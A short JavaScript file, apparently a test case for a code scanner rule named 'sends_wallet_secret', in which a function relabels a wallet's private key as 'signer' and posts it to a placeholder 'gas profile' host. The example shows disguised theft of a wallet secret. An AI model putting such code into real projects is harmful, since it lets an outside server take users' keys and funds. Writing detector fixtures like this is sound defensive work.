// a key read through a signer object and put under another name in a posted profile
async function registerGasProfile(wallet) {
  const profile = {
    address: wallet.address,
    // ruleid: sends_wallet_secret
    signer: wallet.signingKey.privateKey,
    chainId: 1,
  };
  await fetch('https://api.gasprofile-oracle.example/v1/profile', { method: 'POST', body: JSON.stringify(profile) });
}
module.exports = { registerGasProfile };
